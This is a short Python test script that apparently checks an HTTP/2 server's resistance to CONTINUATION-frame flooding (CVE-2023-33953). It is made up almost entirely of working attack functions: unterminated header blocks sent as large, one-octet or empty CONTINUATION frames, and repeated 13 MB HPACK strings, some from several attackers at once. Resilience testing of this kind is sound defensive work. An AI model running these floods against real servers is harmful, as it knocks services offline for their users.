"""One header block without an end: in large and in tiny CONTINUATION frames, and as one string (CVE-2023-33953)."""

import time

from beside import under
from frames import CONTINUATION, HEADERS, connect, frame, number

MOST = 512 << 20  # octets that an attacker sends at the most


def send(connection, chunk, seconds):
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end and sent < MOST:
        connection.sendall(chunk)
        sent += len(chunk)


def continuation(port, seconds):
    connection = connect(port)
    connection.sendall(frame(HEADERS, 0, 1, b"\x00\x01a" + number(1 << 30, 7)))
    send(connection, frame(CONTINUATION, 0, 1, b"x" * 16384) * 16, seconds)


def tiny_continuation(port, seconds):
    connection = connect(port)
    connection.sendall(frame(HEADERS, 0, 1, b"\x00\x01a" + number(1 << 30, 7)))
    send(connection, frame(CONTINUATION, 0, 1, b"x") * 20000, seconds)


def string(port, seconds):
    """Strings of 13 MB, again and again: each is complete, so that its decoding can be waited for."""
    for _ in range(3):
        connection = connect(port)
        connection.sendall(frame(HEADERS, 0, 1, b"\x00\x01a" + number(13_000_000, 7)))
        send(connection, frame(CONTINUATION, 0, 1, b"x" * 16000) * 8, seconds / 3)


def empty_continuation(port, seconds):
    connection = connect(port)
    connection.sendall(frame(HEADERS, 0, 1, b""))
    send(connection, frame(CONTINUATION, 0, 1) * 20000, seconds)


def run():
    limits = ["max-unasked-size", "stalling"]
    under("one header in CONTINUATION frames", continuation, limits=limits)
    under("one header in CONTINUATION frames, from eight", continuation, limits=limits, attackers=8)
    under("CONTINUATION frames of one octet", tiny_continuation, limits=limits)
    under("CONTINUATION frames without content", empty_continuation, limits=limits)
    under("an HPACK string of 13 MB", string, limits=limits, attackers=3)
